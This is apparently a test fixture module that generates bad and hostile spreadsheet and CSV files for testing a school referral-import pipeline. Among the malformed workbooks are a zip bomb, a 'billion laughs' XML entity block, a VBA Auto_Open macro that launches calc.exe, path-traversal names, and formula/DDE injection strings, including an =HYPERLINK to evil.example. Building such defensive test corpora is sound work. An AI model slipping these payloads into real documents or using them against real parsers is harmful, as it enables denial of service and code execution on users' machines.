"""Builders of bad and awkward input files, written by code so each one says what it is.

Every builder takes a folder and returns the path it wrote. Valid rows come from the project's own example
generator; the workbooks are written either with XlsxWriter (the way Excel would lay them out) or, where a case
needs XML that no writer produces (formulas without a saved result, a million empty formatted rows, a zip whose
sheet inflates past the limit), by `raw_workbook`, a minimal OOXML writer. Old-style files (.xls, an encrypted
workbook) are OLE compound files written by `ole_file`.

    from tests import corpus
    path = corpus.zip_bomb(tmp_path)
"""

from __future__ import annotations

import io
import struct
import zipfile
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import xlsxwriter
from openpyxl.utils import get_column_letter

from pipeline.write.examples import generate_rows, write_rows
from schemas.referral import HEADINGS

HEADING_LIST = list(HEADINGS.values())
COLUMN = {h: get_column_letter(i + 1) for i, h in enumerate(HEADING_LIST)}  # heading -> column letter
MiB = 1 << 20


def rows(n: int = 3, seed: int = 7, **overrides) -> list[dict]:
    """n valid rows (as of 2026-11-30), with the same overrides applied to each."""
    result = generate_rows(n, seed=seed)
    for row in result:
        row.update(overrides)
    return result


# ---------------------------------------------------------------- a minimal OOXML writer
@dataclass(frozen=True)
class Formula:
    text: str
    cached: object = None  # None: no saved result (<v> left out)


@dataclass(frozen=True)
class Error:
    code: str  # "#REF!", "#N/A"


@dataclass(frozen=True)
class Serial:
    value: float  # a number in a cell formatted as General (a date typed as a number)


_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    '</Types>')
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    '</Relationships>')
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>'
    '</Relationships>')
# style 0 General, style 1 a date (numFmt 14), style 2 a yellow fill (the "formatted" empty rows)
_STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="{_NS}">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="3"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>'
    '<fill><patternFill patternType="solid"><fgColor rgb="FFFFFF00"/></patternFill></fill></fills>'
    '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
    '<cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/><xf numFmtId="0" fillId="2" applyFill="1"/></cellXfs>'
    '</styleSheet>')


def _workbook_xml(sheet_name: str) -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{_NS}" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            f'<sheets><sheet name={quoteattr(sheet_name)} sheetId="1" r:id="rId1"/></sheets></workbook>')


def excel_serial(d: date) -> int:
    return (d - date(1899, 12, 30)).days


def cell_xml(ref: str, value) -> str:
    if value is None:
        return ""
    if isinstance(value, Formula):
        if value.cached is None:
            return f'<c r="{ref}"><f>{escape(value.text)}</f></c>'
        if isinstance(value.cached, str):
            return f'<c r="{ref}" t="str"><f>{escape(value.text)}</f><v>{escape(value.cached)}</v></c>'
        return f'<c r="{ref}"><f>{escape(value.text)}</f><v>{value.cached}</v></c>'
    if isinstance(value, Error):
        return f'<c r="{ref}" t="e"><v>{escape(value.code)}</v></c>'
    if isinstance(value, Serial):
        return f'<c r="{ref}"><v>{value.value}</v></c>'
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (date, datetime)):
        d = value.date() if isinstance(value, datetime) else value
        return f'<c r="{ref}" s="1"><v>{excel_serial(d)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def row_xml(number: int, values: list) -> str:
    cells = "".join(cell_xml(f"{get_column_letter(i + 1)}{number}", v) for i, v in enumerate(values))
    return f'<row r="{number}">{cells}</row>'


def grid(referrals: list[dict], headings: list[str] | None = None) -> list[list]:
    """Heading row then one list per referral, in `headings` order (default: docs/referral-workbook.md's)."""
    headings = headings or HEADING_LIST
    return [list(headings)] + [[r.get(h) for h in headings] for r in referrals]


def raw_workbook(path: Path, table: list[list], *, sheet_name: str = "Referrals", after_rows=None,
                 merges: tuple[str, ...] = (), sheet_prefix: str = "", extra_members: dict | None = None,
                 level: int = 6, dimension: str | None = None) -> Path:
    """Write an .xlsx whose one sheet holds `table` from row 1, then whatever `after_rows` yields (bytes of
    <row> elements), then `merges`. The sheet is written as a stream, so it can be huge."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _ROOT_RELS)
        zf.writestr("xl/workbook.xml", _workbook_xml(sheet_name))
        zf.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        zf.writestr("xl/styles.xml", _STYLES)
        for name, data in (extra_members or {}).items():
            zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{sheet_prefix}'
                     f'<worksheet xmlns="{_NS}">'.encode())
            if dimension:
                fh.write(f'<dimension ref="{dimension}"/>'.encode())
            fh.write(b"<sheetData>")
            fh.write("".join(row_xml(n, values) for n, values in enumerate(table, start=1)).encode())
            for chunk in after_rows or ():
                fh.write(chunk)
            fh.write(b"</sheetData>")
            if merges:
                fh.write(f'<mergeCells count="{len(merges)}">'.encode())
                fh.write("".join(f'<mergeCell ref="{m}"/>' for m in merges).encode())
                fh.write(b"</mergeCells>")
            fh.write(b"</worksheet>")
    return path


# ---------------------------------------------------------------- an OLE compound file (.xls, encrypted .xlsx)
def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal, valid OLE2 compound file (version 3, 512-byte sectors) holding `streams` in its root storage.
    Streams are padded to 4,096 bytes so they live in ordinary sectors (no mini stream is needed)."""
    SECTOR, END, FREE, FATSECT, NOSTREAM = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    names = list(streams)
    datas = [streams[n].ljust(4096, b"\0") for n in names]
    dir_sectors = -(-(len(names) + 1) * 128 // SECTOR)
    fat = [FATSECT] + [1 + i + 1 if i + 1 < dir_sectors else END for i in range(dir_sectors)]
    starts = []
    for data in datas:
        count = -(-len(data) // SECTOR)
        first = len(fat)
        starts.append(first)
        fat += [first + i + 1 for i in range(count - 1)] + [END]
    assert len(fat) <= SECTOR // 4, "one FAT sector is enough for the corpus"
    fat += [FREE] * (SECTOR // 4 - len(fat))

    def entry(name, kind, child, right, start, size):
        raw = name.encode("utf-16-le") + b"\0\0"
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", NOSTREAM, right, child) + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
                + struct.pack("<IQ", start, size))

    directory = entry("Root Entry", 5, 1 if names else NOSTREAM, NOSTREAM, END, 0)
    for i, (name, data) in enumerate(zip(names, datas)):
        right = i + 2 if i + 1 < len(names) else NOSTREAM
        directory += entry(name, 2, NOSTREAM, right, starts[i], len(data))
    directory = directory.ljust(dir_sectors * SECTOR, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", FREE) * 108)
    assert len(header) == SECTOR
    body = struct.pack(f"<{SECTOR // 4}I", *fat) + directory + b"".join(datas)
    return header + body


# ---------------------------------------------------------------- the corpus
def not_a_spreadsheet(folder: Path) -> Path:
    path = folder / "not-a-spreadsheet.xlsx"
    path.write_text("Referral ID,UPN\nHAV-1,B801200005001\n", encoding="utf-8")
    return path


def word_document_renamed(folder: Path) -> Path:
    path = folder / "minutes.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<document/>")
    return path


def empty_file(folder: Path) -> Path:
    path = folder / "empty.xlsx"
    path.write_bytes(b"")
    return path


def valid_workbook(folder: Path, name: str = "referrals.xlsx", n: int = 3, **overrides) -> Path:
    return write_rows(folder / name, rows(n, **overrides))


def truncated(folder: Path) -> Path:
    whole = valid_workbook(folder, "whole.xlsx", n=20).read_bytes()
    path = folder / "truncated.xlsx"
    path.write_bytes(whole[: len(whole) * 2 // 3])
    return path


def corrupt_sheet(folder: Path) -> Path:
    """A whole zip whose sheet's bytes no longer match its CRC (a bit flipped on a disk or in a download):
    the sheet's stored CRC is changed in both its local header and the central directory."""
    path = valid_workbook(folder, "corrupt.xlsx", n=20)
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(name.decode())
    wrong = ((info.CRC ^ 0xFFFFFFFF) & 0xFFFFFFFF).to_bytes(4, "little")
    data[info.header_offset + 14:info.header_offset + 18] = wrong  # local file header: CRC at +14
    central = data.find(b"PK\x01\x02", info.header_offset)
    while central != -1:
        if data[central + 46:central + 46 + len(name)] == name:
            data[central + 16:central + 20] = wrong  # central directory entry: CRC at +16
            break
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))
    return path


def zip_bomb(folder: Path, inflated: int = 300 * MiB) -> Path:
    """A tiny .xlsx (a few hundred KB) whose sheet inflates to 300 MB of blank space between two rows."""
    block = b" " * MiB
    return raw_workbook(folder / "zip-bomb.xlsx", grid(rows(1)), after_rows=(block for _ in range(inflated // MiB)),
                        level=9)


def lying_zip(folder: Path) -> Path:
    """A sheet whose zip directory claims it unpacks to 2,000 bytes while it inflates to 8 MB."""
    path = raw_workbook(folder / "lying-sizes.xlsx", grid(rows(1)), after_rows=(b" " * MiB for _ in range(8)))
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    at = data.find(b"PK\x01\x02")
    while data[at + 46:at + 46 + len(name)] != name:
        at = data.find(b"PK\x01\x02", at + 4)
        assert at != -1
    struct.pack_into("<I", data, at + 24, 2000)  # the central directory's uncompressed size
    path.write_bytes(bytes(data))
    return path


def million_empty_rows(folder: Path) -> Path:
    """Three referrals, then rows 5 to 1,048,576 formatted (yellow fill, two styled cells each) but empty: the
    workbook an officer gets by formatting whole columns' rows down to the bottom of the sheet."""

    def filler():
        batch = []
        for n in range(5, 1_048_577):
            batch.append(f'<row r="{n}" spans="1:38" s="2" customFormat="1"><c r="A{n}" s="2"/><c r="F{n}" s="2"/></row>')
            if len(batch) == 50_000:
                yield "".join(batch).encode()
                batch = []
        yield "".join(batch).encode()

    return raw_workbook(folder / "million-empty-rows.xlsx", grid(rows(3)), after_rows=filler(), level=1)


def far_apart_cells(folder: Path) -> Path:
    """Three referrals and one stray value in the sheet's last cell, XFD1048576: readers that allocate the
    whole used range (calamine) abort; openpyxl pads every row to 16,384 columns."""
    return raw_workbook(folder / "far-apart.xlsx", grid(rows(3)), dimension="A1:XFD1048576",
                        after_rows=[b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'])


def password_protected(folder: Path) -> Path:
    path = folder / "password.xlsx"
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>"  # agile encryption header, abridged
    path.write_bytes(ole_file({"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", 9000) + b"\x5a" * 9000}))
    return path


def old_xls(folder: Path, name: str = "referrals.xls") -> Path:
    path = folder / name
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06)
    path.write_bytes(ole_file({"Workbook": bof + b"\0" * 64, "\x05SummaryInformation": b"\0" * 48}))
    return path


def word_97_doc(folder: Path) -> Path:
    path = folder / "letter.xlsx"
    path.write_bytes(ole_file({"WordDocument": b"\xec\xa5" + b"\0" * 100}))
    return path


def macro_workbook(folder: Path) -> Path:
    """An .xlsm with a VBA project (an Auto_Open macro, as far as the name goes)."""
    path = folder / "with-macro.xlsm"
    vba = ole_file({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n',
                    "dir": b"\x01" * 100, "Module1": b"Sub Auto_Open()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n"})
    referrals = rows(2)
    wb = xlsxwriter.Workbook(str(path))
    wb.add_vba_project(io.BytesIO(vba), is_stream=True)
    wb.set_vba_name("ThisWorkbook")
    ws = wb.add_worksheet("Referrals")
    date_format = wb.add_format({"num_format": "dd/mm/yyyy"})
    for c, h in enumerate(HEADING_LIST):
        ws.write_string(0, c, h)
    for r, row in enumerate(referrals, start=1):
        for c, h in enumerate(HEADING_LIST):
            value = row.get(h)
            if isinstance(value, date):
                ws.write_datetime(r, c, datetime(value.year, value.month, value.day), date_format)
            elif isinstance(value, (int, float)):
                ws.write_number(r, c, value)
            elif value is not None:
                ws.write_string(r, c, value)
    wb.close()
    return path


def _csv_text(referrals: list[dict]) -> str:
    import csv

    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(HEADING_LIST)
    for row in referrals:
        writer.writerow([(v.strftime("%d/%m/%Y") if isinstance(v, date) else "" if v is None else v)
                         for v in (row.get(h) for h in HEADING_LIST)])
    return out.getvalue()


def csv_windows_1252(folder: Path) -> Path:
    """A CSV saved by Excel as plain 'CSV (Comma delimited)' on Windows: accents in Windows-1252."""
    referrals = rows(2)
    referrals[0].update({"Legal forename": "Zoë", "Legal surname": "Müller-Núñez"})
    referrals[1].update({"Legal forename": "Chloé", "Legal surname": "O’Brien"})  # a curly apostrophe: 0x92
    path = folder / "referrals-1252.csv"
    path.write_bytes(_csv_text(referrals).encode("cp1252"))
    return path


def csv_utf8_bom(folder: Path) -> Path:
    referrals = rows(2)
    referrals[0].update({"Legal forename": "Zoë"})
    path = folder / "referrals-utf8.csv"
    path.write_bytes(_csv_text(referrals).encode("utf-8-sig"))
    return path


def csv_utf16(folder: Path) -> Path:
    path = folder / "referrals-unicode.csv"
    path.write_bytes(_csv_text(rows(1)).encode("utf-16"))
    return path


def csv_binary(folder: Path) -> Path:
    path = folder / "photo.csv"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    return path


def csv_long_line(folder: Path) -> Path:
    path = folder / "one-long-line.csv"
    path.write_text(_csv_text(rows(1)) + "x," * 600_000 + "\r\n", encoding="utf-8")
    return path


def headings_only(folder: Path) -> Path:
    return write_rows(folder / "headings-only.xlsx", [])


def duplicate_headings(folder: Path) -> Path:
    headings = HEADING_LIST + ["UPN"]
    referrals = rows(2)
    return raw_workbook(folder / "duplicate-headings.xlsx", grid(referrals, headings))


def alias_clash(folder: Path) -> Path:
    """'Surname' and 'Legal surname' are two spellings of one heading."""
    headings = HEADING_LIST + ["Surname"]
    return raw_workbook(folder / "alias-clash.xlsx", grid(rows(1), headings))


def no_heading_row(folder: Path) -> Path:
    table = [["Havering Inclusions Team"], ["Referrals for spring"]] + [[f"row {i}", i] for i in range(20)]
    return raw_workbook(folder / "no-headings.xlsx", table, sheet_name="Sheet1")


def formulas_and_errors(folder: Path) -> Path:
    """Row 2: Referral ID a formula with its saved result (read as the result); row 3: UPN a formula never
    calculated (no saved result); row 4: Date of birth #REF! and Decision date #N/A."""
    referrals = rows(3)
    referrals[0]["Referral ID"] = Formula('"HAV-"&"00001"', cached="HAV-00001")
    referrals[1]["UPN"] = Formula("VLOOKUP(C3,Pupils!A:B,2,FALSE)")
    referrals[2]["Date of birth"] = Error("#REF!")
    referrals[2]["Decision date"] = Error("#N/A")
    return raw_workbook(folder / "formulas.xlsx", grid(referrals))


def merged_cells(folder: Path) -> Path:
    """The Receiving school of rows 2 and 3 typed once into a merged cell S2:S3 (and a merged title-free
    heading area is left alone)."""
    referrals = rows(2)
    referrals[1]["Receiving school"] = None
    return raw_workbook(folder / "merged.xlsx", grid(referrals), merges=(f"{COLUMN['Receiving school']}2:{COLUMN['Receiving school']}3",))


def dates_as_numbers_and_text(folder: Path) -> Path:
    """Row 2: every date a bare serial number (General format); row 3: dates typed as UK text in three styles;
    row 4: a two-digit year; row 5: 31 February."""
    referrals = rows(4)
    date_headings = ["Date of birth", "IPA start date", "IPA end date", "Decision date", "Planned return date",
                     "Planning meeting date"]
    for h in date_headings:
        if isinstance(referrals[0].get(h), date):
            referrals[0][h] = Serial(excel_serial(referrals[0][h]))
    styles = ["%d/%m/%Y", "%-d %b %Y", "%Y-%m-%d"]
    for i, h in enumerate(date_headings):
        if isinstance(referrals[1].get(h), date):
            referrals[1][h] = referrals[1][h].strftime(styles[i % 3]).replace("Sep ", "Sept ")
    referrals[2]["Date of birth"] = referrals[2]["Date of birth"].strftime("%d/%m/%y")
    referrals[3]["Decision date"] = "31/02/2027"
    return raw_workbook(folder / "dates.xlsx", grid(referrals))


AWKWARD_NAMES = [
    {"Referral ID": "HAV-0001", "Legal forename": "Siobhán", "Legal surname": "O'Brien"},
    {"Referral ID": "HAV-0002", "Legal forename": "مريم", "Legal surname": "الحسن"},  # right-to-left
    {"Referral ID": "HAV-0003", "Legal forename": "Zoë 🙂", "Legal surname": "Nguyễn"},
    {"Referral ID": "../../escape", "Legal forename": "..", "Legal surname": "../../etc/passwd"},
    {"Referral ID": "CON", "Legal forename": "NUL", "Legal surname": "AUX.txt"},
    {"Referral ID": "HAV-0006", "Legal forename": "Amy\u202e", "Legal surname": "C:\\Windows\\x"},
]


def awkward_names(folder: Path) -> Path:
    referrals = rows(len(AWKWARD_NAMES))
    for row, names in zip(referrals, AWKWARD_NAMES):
        row.update(names)
        row["Preferred name"] = None
    return write_rows(folder / "names.xlsx", referrals)


def long_cells(folder: Path) -> Path:
    """10,000-character cells: a Legal surname (rejected, located) and Needs and triggers (rejected too: text
    fields hold at most 2,000 characters)."""
    referrals = rows(3)
    referrals[0]["Legal surname"] = "A" * 10_000
    referrals[1]["Needs and triggers"] = ("Needs a quiet room. " * 500)[:9_999] + "!"
    return write_rows(folder / "long-cells.xlsx", referrals)


def doctype_entities(folder: Path) -> Path:
    """A sheet with a 'billion laughs' entity declaration."""
    laughs = ('<!DOCTYPE worksheet [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
              '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>')
    return raw_workbook(folder / "entities.xlsx", grid(rows(1)), sheet_prefix=laughs)


def risky_text(folder: Path) -> Path:
    """Text that spreadsheet programs would take for a formula, in names, IDs and free text."""
    referrals = rows(6)
    starts = ["=HYPERLINK(\"http://evil.example/\"&A2,\"Click\")", "+44 cmd|' /C calc'!A0", "-2+3",
              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
    for i, (row, text) in enumerate(zip(referrals, starts)):
        row["Referral ID"] = f"HAV-R{i}"
        row["Legal surname"] = text
        row["Needs and triggers"] = text
        row["Key worker"] = text
    # a rejected row too, so the risky text reaches the validation report's Issues sheet and comments
    referrals[5]["UPN"] = "=1+1"
    return write_rows(folder / "risky.xlsx", referrals, extra_columns={"=cmd|' /C calc'!A0": "=2+2"})


def date_in_number_column(folder: Path) -> Path:
    """Review frequency typed as 2 into a cell formatted as a date: the file holds the date 02/01/1900."""
    referrals = rows(2)
    referrals[0]["Review frequency (weeks)"] = date(1900, 1, 2)
    return raw_workbook(folder / "date-in-number-column.xlsx", grid(referrals))


def too_many_rows(folder: Path, count: int = 20_001) -> Path:
    """One more referral row than a file may hold (only the Referral ID filled in)."""
    def filler():
        for start in range(2, count + 2, 5000):
            yield "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>HAV-{n}</t></is></c></row>'
                          for n in range(start, min(start + 5000, count + 2))).encode()

    return raw_workbook(folder / "too-many-rows.xlsx", [HEADING_LIST], after_rows=filler())


def wide_rows(folder: Path, count: int = 20_000, width: int = 256) -> Path:
    """The most a file may hold: 20,000 rows, each with a distinct 40-character text in all 256 columns read."""
    def filler():
        for start in range(2, count + 2, 500):
            yield "".join(
                f'<row r="{n}">' + "".join(f'<c r="{get_column_letter(c)}{n}" t="inlineStr"><is><t>{n:07d}{c:05d}'
                                           f'{"x" * 28}</t></is></c>' for c in range(1, width + 1)) + "</row>"
                for n in range(start, min(start + 500, count + 2))).encode()

    return raw_workbook(folder / "wide-rows.xlsx", [HEADING_LIST], after_rows=filler(), level=1)


def missing_shared_string(folder: Path) -> Path:
    """A cell pointing at shared string 999 of a table that has one."""
    path = folder / "missing-string.xlsx"
    raw_workbook(path, grid(rows(1)), after_rows=[b'<row r="3"><c r="A3" t="s"><v>999</v></c></row>'],
                 extra_members={"xl/sharedStrings.xml": f'<sst xmlns="{_NS}" count="1" uniqueCount="1"><si><t>x</t></si></sst>'})
    # the relationship that makes the table the workbook's shared strings
    with zipfile.ZipFile(path) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                             b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def malformed_sheet_xml(folder: Path) -> Path:
    """A whole, checksummed zip whose sheet's XML breaks off in the middle of a row (a writer that crashed)."""
    return raw_workbook(folder / "malformed.xlsx", grid(rows(2)), after_rows=[b'<row r="4"><c r="A4" t="inlineStr"><is><t>HAV'])
